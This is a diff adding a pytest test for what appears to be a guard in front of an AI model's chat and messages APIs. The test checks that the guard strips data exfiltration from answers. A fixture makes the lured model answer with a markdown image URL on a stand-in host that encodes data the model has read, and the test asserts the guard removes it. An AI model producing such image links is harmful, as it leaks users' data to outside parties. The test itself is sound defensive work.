@@ -224,3 +224,22 @@ def test_nothing_is_judged_when_nothing_was_read():
 
     answer, event = ask(Lured(Asking()))
     assert "owner@fake-drive" in answer.text and event.verdict == "allow"
+
+
+@pytest.mark.parametrize("protocol", PROTOCOLS, ids=["chat", "messages"])
+def test_an_image_that_carries_what_was_read_is_taken_out_of_the_answer(protocol):
+    class Painting(Lured):
+        async def __call__(self, scope, receive, send):
+            words = (
+                "Total 4000. ![x](https://pix.fake-drive.example/p.png?d=total-4000-and-more) See https://ok.example"
+            )
+            self.protocol, kept = self.protocol, self.protocol.wants
+            self.protocol.wants = lambda calls, streamed, first: self.protocol.answer(words, streamed)
+            await super().__call__(scope, receive, send)
+            self.protocol.wants = kept
+
+    answer, event = ask(Painting(protocol))
+    assert (
+        "pix.fake-drive.example/p.png" not in answer.text and "image to pix.fake-drive.example removed" in answer.text
+    )
+    assert "https://ok.example" in answer.text and "answer-carries" in event.rules
